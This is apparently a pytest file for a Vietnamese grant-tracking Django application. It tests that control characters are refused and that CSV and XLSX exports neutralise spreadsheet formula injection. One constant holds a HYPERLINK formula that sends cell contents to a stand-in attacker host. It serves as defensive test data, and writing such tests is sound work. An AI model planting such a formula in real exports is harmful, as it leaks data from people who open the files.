"""Text that used to break exports or run in a spreadsheet: control characters and formulas."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest
from openpyxl import load_workbook

from hoptac.accounts.models import ApiToken
from hoptac.grants.models import Grant
from hoptac.grants.services import grant_create
from hoptac.reports.exchange.cli import Everyone
from hoptac.reports.exchange.export import export_to
from hoptac.reports.exchange.importer import import_rows, read_table

BILLION = 10**9
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


@pytest.fixture
def grant(hanoi_thanhhoa, admin_user, hanoi, thanhhoa) -> Grant:
    return grant_create(
        partnership=hanoi_thanhhoa, by=admin_user, donor=hanoi, recipient=thanhhoa,
        amount_vnd=3 * BILLION, purpose="an sinh xã hội", given_on=dt.date(2019, 11, 16),
    )  # fmt: skip


@pytest.fixture
def token_for():
    def make(user) -> dict[str, str]:
        return {"HTTP_AUTHORIZATION": f"Bearer {ApiToken.issue(user=user, name='test')[1]}"}

    return make


def _api(client, method, url, data, headers):
    return getattr(client, method)(
        url, json.dumps(data), content_type="application/json", **headers
    )


def test_the_api_refuses_a_control_character_naming_the_field(
    client, hanoi_thanhhoa, hanoi, thanhhoa, alice, token_for
):
    r = _api(client, "post", "/api/v1/grants", {
        "partnership_id": hanoi_thanhhoa.pk, "donor_id": hanoi.pk, "recipient_id": thanhhoa.pk,
        "amount_vnd": 3 * BILLION, "purpose": "an sinh\x01 xã hội",
    }, token_for(alice))  # fmt: skip
    assert r.status_code == 422, r.content
    detail = r.json()["detail"]
    assert detail[0]["field"] == "purpose" and "U+0001" in detail[0]["message"]
    assert not Grant.objects.exists()


def test_tabs_and_newlines_stay_allowed(grant, admin_user):
    from hoptac.grants.services import grant_update

    grant_update(grant, by=admin_user, purpose="dòng 1\r\ndòng 2\tcột")
    grant.refresh_from_db()
    assert grant.purpose == "dòng 1\r\ndòng 2\tcột"


def test_the_web_form_refuses_a_control_character(client, alice, grant):
    client.force_login(alice)
    r = client.post(f"/grants/{grant.pk}/edit/", {
        "partnership": grant.partnership_id, "donor": grant.donor_id,
        "recipient": grant.recipient_id, "amount_vnd": grant.amount_vnd, "given_on": "2019-11-16",
        "purpose": "an sinh\x0b xã hội", "version": grant.version,
    })  # fmt: skip
    assert r.status_code == 400, r.content
    assert "U+000B" in r.content.decode()
    grant.refresh_from_db()
    assert grant.purpose == "an sinh xã hội"


def test_a_patch_with_null_for_a_text_field_is_refused_naming_it(client, grant, alice, token_for):
    r = _api(client, "patch", f"/api/v1/grants/{grant.pk}", {"purpose": None}, token_for(alice))
    assert r.status_code == 422, r.content
    assert r.json()["detail"][0]["field"] == "purpose"


def test_a_stored_control_character_breaks_no_export_nor_report(client, grant, admin_user):
    Grant.objects.filter(pk=grant.pk).update(purpose="an sinh\x01\x1f xã hội")  # an older row
    client.force_login(admin_user)
    for url in (
        "/reports/export/grants.xlsx",
        "/reports/export/grants.csv",
        "/reports/iati.xml",
        f"/reports/annual/?partnership={grant.partnership_id}&year=2019&format=docx",
    ):
        r = client.get(url)
        assert r.status_code == 200, url
        b"".join(r.streaming_content) if r.streaming else r.content
    out = io.BytesIO()
    export_to("grants", "xlsx", Everyone(), out)
    ws = load_workbook(io.BytesIO(out.getvalue())).active
    assert "an sinh xã hội" in [c.value for c in next(ws.iter_rows(min_row=2, max_row=2))]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_spreadsheet_cells_never_start_a_formula(grant, start):
    text = start + "1+1" if start != "=" else FORMULA
    Grant.objects.filter(pk=grant.pk).update(purpose=text)
    out = io.BytesIO()
    export_to("grants", "csv", Everyone(), out)
    rows = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"))))
    purpose = rows[0].index("Mục đích")
    assert rows[1][purpose] == "'" + text
    out = io.BytesIO()
    export_to("grants", "xlsx", Everyone(), out)
    ws = load_workbook(io.BytesIO(out.getvalue())).active
    cell = list(ws.iter_rows(min_row=2, max_row=2))[0][purpose]
    assert cell.data_type == "s" and cell.value == "'" + text


def test_a_neutralised_export_imports_back_unchanged(grant, admin_user):
    Grant.objects.filter(pk=grant.pk).update(purpose=FORMULA)
    for fmt in ("csv", "xlsx"):
        out = io.BytesIO()
        export_to("grants", fmt, Everyone(), out)
        result = import_rows("grants", read_table(out.getvalue(), f"x.{fmt}"), by=admin_user)
        assert result.ok and result.unchanged == 1, result.errors
    grant.refresh_from_db()
    assert grant.purpose == FORMULA
